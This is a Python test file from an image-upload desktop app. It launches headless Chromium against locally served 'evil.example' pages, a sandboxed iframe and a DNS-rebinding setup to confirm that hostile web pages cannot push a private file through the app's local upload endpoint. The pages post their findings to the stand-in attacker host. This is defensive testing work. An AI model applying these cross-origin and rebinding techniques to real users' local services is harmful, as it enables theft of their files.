#!/usr/bin/python3
# SPDX-FileCopyrightText: ImgURL Desktop contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Pages in a real browser that try to reach the endpoint: tst_pages.py BUILD_FOLDER."""

import base64
import http.server
import json
import pathlib
import shutil
import subprocess
import sys
import tempfile
import threading
import unittest

HERE = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent / "cli"))

from served import Served  # noqa: E402 the path first
from world import picture  # noqa: E402

BROWSER = shutil.which("chromium")
PATIENCE = 90  # seconds

PAGE = """<!DOCTYPE html><meta charset="utf-8"><body><script>
const PICTURE = "%(picture)s";
%(code)s
const send = (outcomes) => fetch("%(foreign)s/told", {
    method: "POST", mode: "no-cors", body: JSON.stringify(outcomes)});
%(run)s
</script>"""
TOP = 'attempts("%(base)s", "%(path)s", "%(foreign)s").then(send);'
# An origin that is nobody's.
SANDBOXED = """
addEventListener("message", (message) => send(message.data));
const frame = document.createElement("iframe");
frame.sandbox = "allow-scripts allow-forms";
frame.srcdoc = "<body><script>const PICTURE = '" + PICTURE + "';" + %(quoted)s
    + "attempts('%(base)s', '%(path)s', '%(foreign)s').then((o) => parent.postMessage(o, '*'));"
    + "</" + "script>";
document.body.append(frame);
"""


class Foreign:
    """A server of pages that hears what they have found out."""

    def __init__(self, address="127.0.0.1", port=0):
        foreign = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                if self.path != "/":
                    self.send_error(404)
                    return
                body = foreign.page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Cache-Control", "max-age=3600")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                if self.path == "/redirect":
                    self.send_response(307)
                    self.send_header("Location", foreign.target)
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                self.send_response(204 if self.path == "/told" else 404)
                self.end_headers()
                if self.path != "/told":
                    return
                foreign.told = json.loads(body)
                foreign.heard.set()

            def log_message(self, *_):
                pass
        self.page, self.target, self.told = "", "", None
        self.heard = threading.Event()
        self.server = http.server.ThreadingHTTPServer((address, port), Handler)
        self.port = self.server.server_port
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


class Pages(Served):
    def setUp(self):
        super().setUp()
        self.serve()
        self.path, = self.pictures("private.png")
        self.foreign = Foreign()
        self.addCleanup(self.foreign.close)
        self.foreign.target = f"http://127.0.0.1:{self.port}/upload"
        self.before = len(self.sandbox.images())
        self.profile = tempfile.mkdtemp(dir=self.home)

    def page(self, run, base, foreign):
        code = (HERE / "pages.js").read_text()
        values = {"picture": base64.b64encode(picture("page")).decode(), "code": code,
                  "quoted": json.dumps(code), "base": base, "path": self.path, "foreign": foreign}
        return PAGE % (values | {"run": run % values})

    def visit(self, address, mapped="127.0.0.1", foreign=None, heard=True):
        """What the page has found out."""
        foreign = foreign or self.foreign
        foreign.heard.clear()
        browser = subprocess.Popen(
            [BROWSER, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
             "--disable-background-networking", f"--user-data-dir={self.profile}",
             f"--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebind.example {mapped}",
             "--remote-debugging-port=0", address],
            env=self.environment(), stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL)
        try:
            self.assertTrue(foreign.heard.wait(PATIENCE), "the page says nothing")
        finally:
            browser.terminate()
            browser.wait(PATIENCE)
        return foreign.told

    def assert_nothing_came_of_it(self, outcomes):
        self.assertGreater(len(outcomes), 20)
        for way, outcome in outcomes.items():
            with self.subTest(way):
                self.assertNotIn('"success":true', outcome)
                self.assertNotIn("http://127.0.0.1", outcome)
        self.assertEqual(self.rows(), [])
        self.assertEqual(len(self.sandbox.images()), self.before)

    def test_a_foreign_page(self):
        foreign = f"http://evil.example:{self.foreign.port}"
        for base in f"http://127.0.0.1:{self.port}", f"http://localhost:{self.port}":
            self.foreign.page = self.page(TOP, base, foreign)
            outcomes = self.visit(foreign)
            self.assert_nothing_came_of_it(outcomes)
            self.assertFalse([way for way, told in outcomes.items() if told.startswith("read")])

    def test_a_page_that_hides_its_origin(self):
        foreign = f"http://evil.example:{self.foreign.port}"
        self.foreign.page = self.page(SANDBOXED, f"http://127.0.0.1:{self.port}", foreign)
        self.assert_nothing_came_of_it(self.visit(foreign))

    def test_a_name_that_leads_elsewhere_first(self):
        """DNS rebinding: the page comes from another address of the same name and port."""
        host = f"http://rebind.example:{self.port}"
        first = Foreign("127.0.0.2", self.port)
        first.target = self.foreign.target
        evil = f"http://evil.example:{self.foreign.port}"
        first.page = self.page(TOP, host, evil)
        self.visit(host, mapped="127.0.0.2")
        first.close()
        # The browser has kept the page, and the name leads to the endpoint now.
        outcomes = self.visit(host)
        self.assert_nothing_came_of_it(outcomes)
        # Same-origin, so it can read that it is refused: the requests did arrive.
        self.assertIn("127.0.0.1 and localhost", outcomes["fetch of text"])

    def test_a_page_of_this_computer_can(self):
        """Or the others would fail for a reason of their own."""
        own = f"http://localhost:{self.foreign.port}"
        self.foreign.page = self.page(TOP, f"http://127.0.0.1:{self.port}", own)
        outcomes = self.visit(own)
        for way in ("fetch of text", "fetch of JSON", "fetch of a form", "XMLHttpRequest",
                    "XMLHttpRequest of JSON", "worker"):
            self.assertIn('"success":true', outcomes[way], way)
        names = {row["name"] for row in self.rows() if row["state"] == "done"}
        self.assertEqual(names, {"private.png", "page.png"})


if __name__ == "__main__":
    if not BROWSER:
        sys.exit("tst_pages: there is no chromium")
    unittest.main(verbosity=2)
